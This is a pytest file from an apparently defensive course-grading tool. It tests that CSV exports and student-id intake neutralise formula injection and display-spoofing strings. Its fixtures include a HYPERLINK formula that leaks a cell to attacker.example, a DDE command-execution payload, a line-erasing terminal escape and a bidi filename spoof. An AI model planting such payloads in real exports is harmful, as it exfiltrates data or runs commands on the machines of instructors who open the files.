"""One learner cannot fool the instructor through the strings they choose: each writer and reader, hostile strings.

Unit tests, each well under a second (the gradebook ones: nbgrader's sqlite, ~1 s): every CSV cell a learner
reaches is never a formula, ids and roster names a person could not tell apart are refused, and what the
terminal shows is printable. The class run and the browser are in tests/test_hostile_outputs.py.
"""

from __future__ import annotations

import csv
import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_grade.course import use_this_environment
from course_grade.intake.submissions import student_id_problem
from course_grade.report.exports import write_canvas, write_moodle, write_per_question
from course_grade.report.grades import Assignment, CellScore, ClassGrades, Question, Student, Submission
from course_grade.report.grades_csv import export_csv
from course_grade.report.roster import Entry
from course_grade.untrusted import csv_cell

ROOT = Path(__file__).resolve().parent.parent

FORMULAS = [
    "=2+3",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]
"""Cells a spreadsheet would run as formulas (OWASP "CSV Injection")."""

NUMBERS = ["0", "17", "16.5", "-3", "-0.25", "+4", "1e3", "2026-11-01 12:00:00"]
"""Cells that start like a formula, or not, but are numbers (or dates): left as they are."""

BIDI = "\u202egnp.exe"
"""Reads as "exe.png" in a bidi-aware view."""

ZERO_WIDTH = "ali\u200bce"
"""Looks like "alice"."""

ESCAPE = "\x1b[1A\x1b[2Kall fine"
"""Moves the cursor up and erases the line above it (say, a "POSSIBLE TAMPERING" line)."""


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell not in NUMBERS


@pytest.mark.parametrize("value", FORMULAS)
def test_a_would_be_formula_gets_a_leading_quote(value: str) -> None:
    cell = csv_cell(value)
    assert cell.startswith("'") and not _formula(cell)


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_stays_a_number(value: str) -> None:
    assert csv_cell(value) == value


def test_a_cell_shows_no_control_or_format_character() -> None:
    assert csv_cell(BIDI) == "\\u202egnp.exe" and csv_cell("a\nb") == "a\\nb"


def _all_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _hostile_gradebook(folder: Path) -> str:
    """A gradebook whose student ids and names are formulas; its URL."""
    use_this_environment()  # nbgrader runs `alembic` from PATH to create a gradebook
    url = f"sqlite:///{folder / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment("a1", duedate=datetime.datetime(2026, 11, 1))
        gradebook.add_notebook("nb", "a1")
        gradebook.add_grade_cell("q1", "nb", "a1", max_score=1.0, cell_type="code")
        gradebook.add_student("=2+3", first_name="+1+1", last_name="@SUM(A1)", email="-2+3@x")
        gradebook.add_student("honest", first_name="Ann", last_name="Lee", email="ann@example.org")
        for student in ("=2+3", "honest"):
            gradebook.add_submission("a1", student, timestamp=datetime.datetime(2026, 10, 1))
    return url


def test_grades_csv_holds_no_formula(tmp_path: Path) -> None:
    url = _hostile_gradebook(tmp_path)
    review = {("=2+3", "a1"): '=HYPERLINK("http://x","y")', ("honest", "a1"): ""}
    export_csv(url, "default_course", tmp_path / "grades.csv", ["a1"], review)
    cells = _all_cells(tmp_path / "grades.csv")
    assert "'=2+3" in cells and "'+1+1" in cells and "'@SUM(A1)" in cells
    assert not [cell for cell in cells if _formula(cell)]


def _class() -> ClassGrades:
    """A class of one hostile student (formula id and names) and one honest one."""
    students = (Student("=2+3", "+1+1", "@SUM(A1)", "-x@y"), Student("honest", "Ann", "Lee", "a@b"))
    return ClassGrades(
        assignments=(Assignment("a1", 1.0, None, (Question("nb", "q1", 1.0),)),),
        students=students,
        submissions=tuple(Submission(s.id, "a1", 1.0, 1.0, 0.0) for s in students),
        cells=tuple(CellScore(s.id, "a1", "nb", "q1", 1.0, 1.0) for s in students),
    )


ROSTER = [
    Entry("=2+3", name="=HYPERLINK(\"http://x\",\"y\")", canvas_id="+1+1", sis_user_id="@SUM(A1)",
          sis_login_id="-1+2", section="\t=1+1", id_number="=1"),
    Entry("honest", name="Lee, Ann", canvas_id="12", first_name="Ann", last_name="Lee", email="a@b"),
]  # fmt: skip


@pytest.mark.parametrize("writer", [write_canvas, write_moodle])
def test_platform_files_hold_no_formula(writer: object, tmp_path: Path) -> None:
    path = tmp_path / "platform.csv"
    writer(path, _class(), ROSTER)  # type: ignore[operator]
    cells = _all_cells(path)
    assert not [cell for cell in cells if _formula(cell)], cells
    assert any(cell.startswith("'") for cell in cells)


def test_the_per_question_file_holds_no_formula(tmp_path: Path) -> None:
    write_per_question(tmp_path / "per_question.csv", _class().cells)
    cells = _all_cells(tmp_path / "per_question.csv")
    assert "'=2+3" in cells and not [cell for cell in cells if _formula(cell)]


def test_every_csv_of_the_course_is_written_by_the_one_writer() -> None:
    direct = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "course_grade").rglob("*.py"))
        if path.name != "untrusted.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert direct == [], "write CSV with course_grade.untrusted.CsvWriter"


@pytest.mark.parametrize("student", ["=2+3", "+1", "-rf", "@SUM(A1)"])
def test_an_id_a_spreadsheet_reads_as_a_formula_is_refused_at_intake(student: str) -> None:
    assert student_id_problem(student) is not None


@pytest.mark.parametrize("student", ["Zoë O'Brien, Jr. [2]*", "s-1", "ann.lee@example.org", "12345"])
def test_an_odd_but_honest_id_is_taken(student: str) -> None:
    assert student_id_problem(student) is None
